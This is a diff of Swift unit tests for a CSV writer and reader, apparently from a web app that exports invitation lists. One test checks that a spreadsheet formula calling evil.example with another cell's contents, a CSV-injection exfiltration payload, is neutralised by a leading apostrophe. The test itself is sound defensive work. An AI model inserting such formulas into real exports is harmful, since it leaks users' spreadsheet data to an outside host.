@@ -25,7 +25,7 @@ import Web
 
     @Test func `whatever is written is read as the same cells`() throws {
         let cells = ["a,b", "c;d", "e\"f\"", "g\r\nh", "=i", "é", ""]
-        var reader = try CSVReader(Array(CSVWriter.line(cells).utf8))
+        var reader = CSVReader(Array(CSVWriter.line(cells).utf8))
         #expect(try reader.next()?.fields == ["a,b", "c;d", "e\"f\"", "g\r\nh", "'=i", "é", ""])
         #expect(try reader.next() == nil)
     }
@@ -39,7 +39,7 @@ import Web
         let list = InvitationList(
             accounts.entries.map { ($0.new, $0.invitation) }, brand: brand,
             at: PublicAddress(scheme: "https", port: 443))
-        var reader = try CSVReader(Array(list.csv.utf8))
+        var reader = CSVReader(Array(list.csv.utf8))
         #expect(try reader.next()?.fields == ["number", "company", "name", "email", "language", "link"])
         let fields = try #require(try reader.next()).fields
         #expect(fields[1] == "'=WEBSERVICE(\"https://evil.example/\"&F2)")
